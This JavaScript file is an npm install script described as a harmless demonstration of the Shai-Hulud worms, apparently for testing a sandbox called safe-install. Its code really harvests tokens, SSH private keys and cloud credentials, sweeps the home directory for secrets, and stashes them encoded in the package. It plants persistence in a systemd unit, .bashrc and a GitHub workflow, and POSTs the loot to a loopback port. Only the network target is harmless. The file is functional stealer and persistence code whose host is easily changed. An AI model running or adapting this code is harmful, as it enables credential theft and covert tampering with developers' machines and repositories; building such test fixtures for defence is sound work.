// HARMLESS demonstration of what the Shai-Hulud worms did from an install
// script (2025-2026). It only ever talks to 127.0.0.1, and it writes only
// into places a real worm would: without safe-install, it WOULD change
// your ~/.bashrc and ~/.config/systemd/user and your project's .github.
// Run it only through safe-install (or in a throwaway machine).
//
// Steps, as the worms took them:
//   1. harvest: tokens from env and dotfiles, then a sweep of $HOME;
//   2. exfiltrate: POST to a "webhook" (here a loopback port);
//   3. propagate: use the npm token to publish (here: npm whoami against
//      a loopback registry);
//   4. persist: a systemd user unit (gh-token-monitor), a .bashrc line,
//      a GitHub Actions workflow in the project;
//   5. stash: keep the loot in the package for later (copied-back files).
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { spawnSync } = require('child_process');

const log = [];
const note = (step, what, result) => log.push({ step, what, result });
const home = os.homedir();
let port = 9; // discard: nothing listens by default
try { port = JSON.parse(fs.readFileSync(path.join(__dirname, 'target.json'), 'utf8')).port; } catch (e) { /* default */ }

// 1. harvest
const loot = {};
for (const k of ['NPM_TOKEN', 'GITHUB_TOKEN', 'GH_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'ACTIONS_RUNTIME_TOKEN']) {
  if (process.env[k]) { loot[k] = process.env[k]; note('harvest', 'env ' + k, 'found'); }
}
for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_ed25519', '.ssh/id_rsa', '.config/gh/hosts.yml', '.git-credentials']) {
  const p = path.join(home, f);
  try { loot[p] = fs.readFileSync(p, 'utf8'); note('harvest', p, 'read'); } catch (e) { note('harvest', p, e.code); }
}
(function sweep(dir, depth) {
  if (depth > 4) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return; }
  for (const d of ents) {
    const p = path.join(dir, d.name);
    if (d.isDirectory() && d.name !== 'node_modules') sweep(p, depth + 1);
    else if (d.isFile()) {
      try {
        const s = fs.readFileSync(p, 'utf8');
        if (/npm_[A-Za-z0-9]{36}|gh[pousr]_[A-Za-z0-9]{36}|AKIA[0-9A-Z]{16}|PRIVATE KEY/.test(s) && !(p in loot)) { loot[p] = s; note('harvest', p, 'secret found by sweep'); }
      } catch (e) { /* unreadable */ }
    }
  }
})(home, 0);
const payload = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');

// 5. stash (first, so it survives whatever happens next)
fs.writeFileSync(path.join(__dirname, 'data.json'), JSON.stringify({ data: payload }));

// 4. persist
const persist = [
  [path.join(home, '.config/systemd/user/gh-token-monitor.service'), '[Service]\nExecStart=/bin/sh -c "echo worm-demo"\n'],
  [path.join(home, '.bashrc'), '\n# worm-demo was here\n', true],
  [path.join(process.env.INIT_CWD || process.cwd(), '.github/workflows/worm-demo.yml'), 'on: push\njobs: {}\n'],
];
for (const [p, body, append] of persist) {
  try {
    fs.mkdirSync(path.dirname(p), { recursive: true });
    (append ? fs.appendFileSync : fs.writeFileSync)(p, body);
    note('persist', p, 'written');
  } catch (e) { note('persist', p, e.code); }
}

// 3. propagate
const who = spawnSync('npm', ['whoami', '--registry', `http://127.0.0.1:${port}/`], { encoding: 'utf8', timeout: 5000 });
note('propagate', 'npm whoami on a loopback registry', who.status === 0 ? 'authenticated' : 'failed: ' + (who.stderr || '').trim().split('\n').filter((l) => !/^npm warn/.test(l)).pop());

// 2. exfiltrate, then write the log and end (a worm never fails the install)
const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/webhook', timeout: 3000 }, (res) => {
  note('exfiltrate', `POST 127.0.0.1:${port}`, 'HTTP ' + res.statusCode);
  res.resume();
  res.on('end', finish);
});
req.on('error', (e) => { note('exfiltrate', `POST 127.0.0.1:${port}`, e.code); finish(); });
req.on('timeout', () => req.destroy(new Error('timeout')));
req.end(payload);

let finished = false;
function finish() {
  if (finished) return;
  finished = true;
  fs.writeFileSync(path.join(__dirname, 'worm-log.json'), JSON.stringify(log, null, 1));
  for (const l of log) console.log(`worm-demo: ${l.step}: ${l.what}: ${l.result}`);
}
